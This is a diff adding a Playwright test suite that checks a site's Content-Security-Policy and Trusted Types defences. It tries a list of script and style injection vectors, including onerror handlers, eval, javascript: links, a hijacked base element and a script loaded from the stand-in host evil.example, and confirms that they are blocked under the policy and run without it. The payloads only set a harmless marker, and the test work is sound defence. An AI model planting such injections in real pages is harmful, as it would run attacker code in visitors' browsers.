@@ -1,0 +1,109 @@
+import { type Page, test as plain } from '@playwright/test'
+import { expect } from '../support/site.ts'
+
+/** Says in the console what was forbidden, so the silent visitor of the other journeys is of no use here. */
+const test = plain
+
+/** What somebody could plant who got a text onto a page. Each leaves `window.planted` when it runs; styles leave `--planted`. */
+const ATTACKS: Record<string, (evil: string) => unknown> = {
+  'an inline script': () => {
+    const script = document.createElement('script')
+    script.textContent = 'window.planted = 1'
+    document.head.append(script)
+  },
+  'a handler in HTML': () => {
+    document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="window.planted = 1">')
+  },
+  'HTML through innerHTML': () => {
+    document.body.appendChild(document.createElement('div')).innerHTML = '<img src=x onerror="window.planted = 1">'
+  },
+  // biome-ignore lint/security/noGlobalEval: it must not run
+  'code out of a text': () => globalThis.eval('window.planted = 1'),
+  'a function out of a text': () => new Function('window.planted = 1')(),
+  'a timer with a text': () => setTimeout('window.planted = 1' as unknown as () => void, 0),
+  'a script from elsewhere': (evil) => {
+    const script = document.createElement('script')
+    script.src = evil
+    document.head.append(script)
+  },
+  'a script from elsewhere, through the shell': (evil) => (globalThis as unknown as { bringFile: (url: string) => unknown }).bringFile(evil),
+  'a script that no release of the page has, through the shell': () =>
+    (globalThis as unknown as { bringFile: (url: string) => unknown }).bringFile('/assets/mf-cases/0.0.1/entry.0123456789.js'),
+  'a policy of its own': () =>
+    (globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }).trustedTypes.createPolicy('evil', {}),
+  'a second policy of our name': () =>
+    (globalThis as unknown as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } }).trustedTypes.createPolicy('southbound', {}),
+  'a javascript link': () => {
+    const link = Object.assign(document.createElement('a'), { href: 'javascript:window.planted = 1' })
+    document.body.append(link)
+    link.click()
+  },
+  'a style element': () => {
+    const style = document.createElement('style')
+    style.textContent = ':root { --planted: 1 }'
+    document.head.append(style)
+  },
+  'a style attribute': () => document.documentElement.setAttribute('style', '--planted: 1'),
+  'a stylesheet from elsewhere': (evil) => {
+    document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: evil.replace('.js', '.css') }))
+  },
+  'another base': () => {
+    document.head.prepend(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))
+    if (document.baseURI.startsWith('https://evil')) (window as unknown as { planted: number }).planted = 1
+  },
+}
+const EVIL = 'https://evil.example/planted.js'
+
+/** What became of an attack. */
+async function tried(page: Page, attack: (evil: string) => unknown): Promise<'ran' | 'nothing happened'> {
+  await page.evaluate(`(() => { try { (${attack})(${JSON.stringify(EVIL)}) } catch {} })()`)
+  await page.waitForTimeout(150)
+  const ran = await page.evaluate("Boolean(window.planted) || getComputedStyle(document.documentElement).getPropertyValue('--planted') !== ''")
+  return ran ? 'ran' : 'nothing happened'
+}
+async function opened(page: Page, path: string): Promise<void> {
+  await page.context().route('https://evil.example/**', (route) =>
+    route.fulfill({
+      headers: { 'access-control-allow-origin': '*' },
+      contentType: route.request().url().endsWith('.css') ? 'text/css' : 'text/javascript',
+      body: route.request().url().endsWith('.css') ? ':root { --planted: 1 }' : 'window.planted = 1',
+    }),
+  )
+  await page.goto(path)
+  await expect.poll(() => page.evaluate<number>("performance.getEntriesByName('interactive').length")).toBeGreaterThan(0)
+}
+
+test('nothing planted on a page runs or shows', async ({ page }) => {
+  await opened(page, '/about-us')
+  for (const [name, attack] of Object.entries(ATTACKS)) expect([name, await tried(page, attack)]).toEqual([name, 'nothing happened'])
+})
+
+test('the same attacks run on a page without the policy: they are real', async ({ page }) => {
+  await page.route('**/about-us', async (route) => {
+    const answer = await route.fetch()
+    const { 'content-security-policy': _, 'integrity-policy': __, ...headers } = answer.headers()
+    await route.fulfill({ response: answer, headers })
+  })
+  await opened(page, '/about-us')
+  const through = [
+    'an inline script',
+    'a handler in HTML',
+    'code out of a text',
+    'a timer with a text',
+    'a script from elsewhere',
+    'a style element',
+    'a style attribute',
+  ]
+  for (const name of through) {
+    expect([name, await tried(page, ATTACKS[name] as (evil: string) => unknown)]).toEqual([name, 'ran'])
+    await page.evaluate(
+      "window.planted = 0; document.documentElement.removeAttribute('style'); document.querySelectorAll('head style:not([data-href])').forEach((one) => one.remove())",
+    )
+  }
+})
+
+test('what was forbidden is to be told to the server', async ({ page }) => {
+  const headers = (await page.goto('/about-us'))?.headers() ?? {}
+  expect(headers['content-security-policy']).toContain('report-uri /api/telemetry/policy; report-to policy')
+  expect(headers['reporting-endpoints']).toBe('policy="/api/telemetry/policy"')
+})
